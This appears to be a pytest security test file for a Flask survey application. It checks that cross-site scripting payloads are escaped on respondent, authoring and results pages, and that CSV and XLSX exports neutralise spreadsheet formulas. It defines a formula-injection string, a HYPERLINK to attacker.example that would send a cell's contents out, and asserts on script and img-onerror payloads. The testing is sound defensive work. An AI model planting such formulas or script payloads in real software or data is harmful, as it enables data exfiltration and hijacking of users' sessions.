"""XSS payloads in question texts, choice labels, rows, titles and answers are escaped on every page they
reach (respondent pages, authoring pages, results); exports opened as spreadsheets never run an answer as a
formula (CSV and XLSX)."""

from __future__ import annotations

import csv
import io
import re

from flask import Flask
from flask.testing import FlaskClient

from tests.security.support import IMG, PAYLOAD, SCRIPT, signed_in, token_of

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
ANSWER = f"Answer {PAYLOAD}"


def assert_escaped(html: str, where: str, *, expect_payload: bool = True) -> None:
    assert SCRIPT not in html, f"raw <script> on {where}"
    assert "<img src=x" not in html and "onerror=alert" not in html.replace("onerror=alert(2)&gt;", ""), where
    if expect_payload:  # the text is there, shown as text
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html, f"payload text missing on {where}"


def answer_hostile(client: FlaskClient) -> None:
    path = "/p/hostile?channel=phone"
    first = client.get(path)
    assert first.status_code == 200
    html = first.get_data(as_text=True)
    assert_escaped(html, "respondent page 1")
    for text in ("Title ", "Intro ", "Section ", "Effort ", "Help ", "Promise ", "Email "):
        assert f"{text}&lt;script&gt;" in html, text
    token = token_of(html)
    reply = client.post("/p/hostile", data={"page": "0", "q_align.easy": "4", "q_align.partner": "2",
                                            "q_ces": "3", "q_channels": ["phone", "email"], "csrf_token": token})
    assert reply.status_code == 303
    second = client.get(reply.headers["Location"]).get_data(as_text=True)
    assert_escaped(second, "respondent page 2")
    for text in ("Touchpoint ", "Channel "):  # the Phone row, shown because page 1 said phone was used
        assert f"{text}&lt;script&gt;" in second, text
    invalid = client.post("/p/hostile", data={"page": "1", "q_nps": "11", "q_why": ANSWER, "csrf_token": token})
    assert invalid.status_code == 400  # NPS 11 is out of range: the page comes back with the answers typed
    assert_escaped(invalid.get_data(as_text=True), "respondent page 2 with an error")
    done = client.post("/p/hostile", data={
        "page": "1", "q_friction.ordering": "yes", "q_friction.ordering.what": FORMULA, "q_friction.billing": "no",
        "q_channel.phone": "5", "q_channel.email": "4", "q_why": ANSWER,
        "q_nps": "9", "csrf_token": token})
    assert done.status_code == 303, done.get_data(as_text=True)[:500]
    assert_escaped(client.get(done.headers["Location"]).get_data(as_text=True), "thank-you page",
                   expect_payload=False)


def test_payloads_are_escaped_on_respondent_and_results_pages(site: tuple[Flask, str]) -> None:
    app, _ = site
    answer_hostile(app.test_client())
    analyst = signed_in(app, "analyst")
    listing = analyst.get("/results/")
    assert listing.status_code == 200
    assert_escaped(listing.get_data(as_text=True), "results list")
    page = analyst.get("/results/hostile")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert_escaped(html, "results page")
    assert "Answer &lt;script&gt;" in html  # the respondent's comment is shown, as text
    searched = analyst.get("/results/hostile", query_string={"q": SCRIPT})
    assert searched.status_code == 200
    assert_escaped(searched.get_data(as_text=True), "results page searched for a payload")


def test_payloads_are_escaped_on_authoring_pages(site: tuple[Flask, str]) -> None:
    app, _ = site
    author = signed_in(app, "author")
    checked = 0
    for path in ("/author/", "/author/hostile", "/author/hostile/preview", "/author/hostile/links",
                 "/author/hostile/questions/q_ces", "/author/hostile/sections/promises"):
        reply = author.get(path)
        assert reply.status_code == 200, (path, reply.status_code)
        assert_escaped(reply.get_data(as_text=True), path, expect_payload=path != "/author/hostile/sections/promises"
                       and path != "/author/")
        checked += 1
    assert checked == 6


def test_exports_do_not_run_answers_as_formulas(site: tuple[Flask, str]) -> None:
    app, _ = site
    answer_hostile(app.test_client())
    analyst = signed_in(app, "analyst")
    reply = analyst.get("/results/hostile/responses.csv")
    assert reply.status_code == 200
    rows = list(csv.DictReader(io.StringIO(reply.get_data(as_text=True))))
    (row,) = [r for r in rows if r["status"] == "complete"]
    assert row["q_friction.ordering.what"] == "'" + FORMULA  # a leading apostrophe: plain text in a spreadsheet
    assert row["q_why"] == ANSWER  # text not starting with = + - @ is kept exactly

    from openpyxl import load_workbook

    reply = analyst.get("/results/hostile/responses.xlsx")
    assert reply.status_code == 200
    sheet = load_workbook(io.BytesIO(reply.get_data()), read_only=False).active
    assert sheet is not None
    header = [cell.value for cell in sheet[1]]
    cells = [row for row in sheet.iter_rows(min_row=2) if row[header.index("status")].value == "complete"]
    (complete,) = cells
    what = complete[header.index("q_friction.ordering.what")]
    assert what.data_type == "s" and what.value == "'" + FORMULA
    assert complete[header.index("q_why")].value == ANSWER
    formulas = [c.coordinate for r in sheet.iter_rows() for c in r if c.data_type == "f"]
    assert formulas == []


def test_the_payload_constant_would_be_dangerous() -> None:
    """Guards the test itself: unescaped, the payload really is markup with a script and an event handler."""
    assert re.search(r"<script>.*</script>", PAYLOAD) and re.search(r"<img [^>]*onerror=", IMG)
